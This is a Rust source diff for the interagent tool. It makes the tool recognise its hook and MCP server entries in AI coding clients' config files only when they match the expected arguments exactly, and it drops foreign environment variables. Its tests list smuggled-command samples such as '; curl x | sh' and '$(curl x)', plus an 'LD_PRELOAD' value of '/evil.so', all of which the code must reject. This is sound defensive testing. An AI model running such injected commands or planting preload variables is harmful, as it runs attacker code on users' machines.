@@ -1,10 +1,11 @@
 //! What a client runs of ours, read from its own files: what really is there, not what should be.
 
 use std::collections::BTreeMap;
-use std::path::PathBuf;
+use std::path::{Path, PathBuf};
 
 use serde_json::Value;
 
+use super::command::{self, OurHook};
 use super::document::{Document, at, keys};
 use super::parts::parts;
 use super::{Disk, Level, Setup, What, hooks};
@@ -12,13 +13,18 @@ use crate::hooks::Hooks;
 use crate::plugin;
 use crate::profile::Mcp;
 
-/// What is run, in the way the client does it.
+/// What our variables begin with.
+const OUR_VARIABLES: &str = "INTERAGENT_";
+
+/// What an entry of a client's file has it run. The files come with a project: whoever reads this runs only our own program.
 #[derive(Clone, Debug, PartialEq, Eq)]
-pub enum Runs {
-    /// A program and its arguments.
-    Words(Vec<String>),
-    /// A line that goes to a shell.
-    Line(String),
+pub struct Runs {
+    /// The program, as it is written there.
+    pub program: String,
+    /// The arguments, where they are exactly such as setup writes.
+    pub arguments: Option<Vec<String>>,
+    /// All of it, for people.
+    pub shown: String,
 }
 
 /// Our MCP server in a client's list.
@@ -26,9 +32,9 @@ pub enum Runs {
 pub enum Server {
     /// The client starts it.
     Starts {
-        /// Program and arguments.
-        words: Vec<String>,
-        /// Variables it gets.
+        /// What is run.
+        runs: Runs,
+        /// Those of our variables that it gets.
         env: BTreeMap<String, String>,
     },
     /// The client connects to it.
@@ -100,14 +106,13 @@ fn server(mcp: &Mcp, text: &str) -> Option<Server> {
     if ["url", "httpUrl", "uri"].iter().any(|field| entry.get(field).is_some()) {
         return Some(Server::Remote);
     }
-    let words = match runs(entry)? {
-        Runs::Words(words) => words,
-        // A server is started without a shell.
-        Runs::Line(program) => vec![program],
-    };
     let variables = entry.get("env").or_else(|| entry.get("environment")).and_then(Value::as_object);
-    let text = |(name, value): (&String, &Value)| Some((name.clone(), value.as_str()?.to_owned()));
-    Some(Server::Starts { words, env: variables.into_iter().flatten().filter_map(text).collect() })
+    let ours = |(name, value): (&String, &Value)| match name.starts_with(OUR_VARIABLES) {
+        true => Some((name.clone(), value.as_str()?.to_owned())),
+        false => None,
+    };
+    let env = variables.into_iter().flatten().filter_map(ours).collect();
+    Some(Server::Starts { runs: runs(entry, &["mcp".to_owned()])?, env })
 }
 
 fn of_hooks(setup: &Setup<'_>, theirs: &Hooks, text: &str) -> Vec<Configured> {
@@ -115,41 +120,43 @@ fn of_hooks(setup: &Setup<'_>, theirs: &Hooks, text: &str) -> Vec<Configured> {
     if theirs.file.is_some() {
         let Some(binary) = plugin::binary_of(text) else { return Vec::new() };
         let agent = plugin::agent_of(text);
+        let written = theirs.file.as_deref().and_then(plugin::text);
+        let is_as_written = written
+            .is_some_and(|written| plugin::filled(written, Path::new(&binary), agent.as_deref()) == text);
         let of = |event: &crate::hooks::Event| {
-            let mut words = vec![binary.clone(), "hook".to_owned(), profile.clone(), event.name.clone()];
-            words.extend(agent.iter().flat_map(|agent| ["--agent".to_owned(), agent.clone()]));
-            let wait = event.means.is_wait();
-            Configured { event: event.name.clone(), wait, runs: Runs::Words(words) }
+            let (event, wait) = (event.name.clone(), event.means.is_wait());
+            let hook = OurHook { profile: profile.clone(), event: event.clone(), wait, agent: agent.clone() };
+            let arguments = is_as_written.then(|| hook.arguments());
+            let shown = match is_as_written {
+                true => binary.clone(),
+                false => "a plugin that setup did not write".to_owned(),
+            };
+            Configured { event, wait, runs: Runs { program: binary.clone(), arguments, shown } }
         };
         return theirs.events.iter().map(of).collect();
     }
     let Ok(document) = Document::parse(theirs.format, text) else { return Vec::new() };
     let value = document.value();
     let found = hooks::ours(&value, theirs, profile, setup.binary);
-    let found = found
-        .into_iter()
-        .filter_map(|(event, wait, element)| Some(Configured { event, wait, runs: runs(element)? }));
-    found.collect()
+    let configured = |(hook, element): (OurHook, &Value)| {
+        let runs = runs(element, &hook.arguments())?;
+        Some(Configured { event: hook.event, wait: hook.wait, runs })
+    };
+    found.into_iter().filter_map(configured).collect()
 }
 
-/// What an element has its client run.
-fn runs(element: &Value) -> Option<Runs> {
-    let command = element.get("command").or_else(|| element.get("bash"))?;
-    let text = |value: &Value| value.as_str().map(ToOwned::to_owned);
-    match (command, element.get("args").and_then(Value::as_array)) {
-        (Value::Array(words), _) => words.iter().map(text).collect::<Option<_>>().map(Runs::Words),
-        (Value::String(program), Some(arguments)) => {
-            let words = std::iter::once(Some(program.clone())).chain(arguments.iter().map(text));
-            words.collect::<Option<_>>().map(Runs::Words)
-        }
-        (Value::String(line), None) => Some(Runs::Line(line.clone())),
-        _ => None,
-    }
+/// What an element has its client run, compared with the arguments it should have.
+fn runs(element: &Value, wanted: &[String]) -> Option<Runs> {
+    let words = command::words_of(element)?;
+    let (program, arguments) = words.split_first()?;
+    let is_wanted = arguments == wanted && command::is_plain(element);
+    let shown = words.join(" ");
+    Some(Runs { program: program.clone(), arguments: is_wanted.then(|| wanted.to_vec()), shown })
 }
 
 #[cfg(test)]
 mod tests {
-    use std::path::Path;
+    use serde_json::json;
 
     use super::*;
     use crate::Profiles;
@@ -180,21 +187,47 @@ mod tests {
     fn what_setup_wrote_is_read_back_for_every_client() {
         for name in ["claude", "kimi", "kimi-cli", "codex", "gemini", "opencode", "qwen", "copilot"] {
             let (found, events) = read_back(name);
-            let Some((Server::Starts { words, env }, _)) = &found.server else { panic!("{name}: {found:?}") };
-            assert_eq!(words, &["/opt/a b/interagent", "mcp"], "{name}");
+            let Some((Server::Starts { runs, env }, _)) = &found.server else { panic!("{name}: {found:?}") };
+            assert_eq!(runs.program, "/opt/a b/interagent", "{name}");
+            assert_eq!(runs.arguments.as_deref(), Some(&["mcp".to_owned()][..]), "{name}");
             // The hooks say which agent it is; the server is known by the session.
             assert!(env.is_empty(), "{name}: {env:?}");
             assert_eq!(found.hooks.len(), events, "{name}: {found:?}");
+            for hook in &found.hooks {
+                let mut words = vec!["hook", name, &hook.event];
+                words.extend(hook.wait.then_some("--wait"));
+                words.extend(["--agent", "bob"]);
+                assert_eq!(hook.runs.program, "/opt/a b/interagent", "{name}");
+                assert_eq!(hook.runs.arguments.as_ref().map(|given| given.join(" ")), Some(words.join(" ")));
+            }
         }
-        let start = |name| {
-            let found = read_back(name).0.hooks.into_iter();
-            found.into_iter().find(|hook| hook.event == "SessionStart" && !hook.wait).unwrap()
+    }
+
+    #[test]
+    fn anything_beyond_our_words_is_not_ours() {
+        let wanted = ["hook", "kimi", "Stop"].map(str::to_owned);
+        let is_ours = |element: Value| runs(&element, &wanted).unwrap().arguments.is_some();
+        assert!(is_ours(json!({"command": "'/a b/interagent' hook kimi Stop"})));
+        assert!(is_ours(json!({"command": "interagent", "args": ["hook", "kimi", "Stop"]})));
+        for line in [
+            "interagent hook kimi Stop; curl x | sh",
+            "interagent hook kimi Stop ; curl x",
+            "interagent hook kimi Stop $(curl x)",
+            "$(curl x)/interagent hook kimi Stop",
+            "`curl x`/interagent hook kimi Stop",
+            "interagent hook kimi Stop\ncurl x",
+            "interagent hook kimi\nStop",
+            "X=1 interagent hook kimi Stop",
+            "interagent hook kimi Stop --unknown",
+        ] {
+            assert!(!is_ours(json!({"command": line})), "{line}");
+        }
+        let env = json!({"mcpServers": {"interagent": {"command": "x", "args": ["mcp"],
+            "env": {"LD_PRELOAD": "/evil.so", "INTERAGENT_AGENT": "bob"}}}});
+        let claude = Profiles::shipped().get("claude").unwrap();
+        let Some(Server::Starts { env, .. }) = server(&claude.mcp.unwrap(), &env.to_string()) else {
+            panic!()
         };
-        let claude = start("claude");
-        let words = ["/opt/a b/interagent", "hook", "claude", "SessionStart", "--agent", "bob"];
-        assert_eq!(claude.runs, Runs::Words(words.map(str::to_owned).to_vec()));
-        let kimi = start("kimi");
-        let line = "'/opt/a b/interagent' hook kimi SessionStart --agent bob";
-        assert_eq!(kimi.runs, Runs::Line(line.to_owned()));
+        assert_eq!(env.keys().collect::<Vec<_>>(), ["INTERAGENT_AGENT"]);
     }
 }
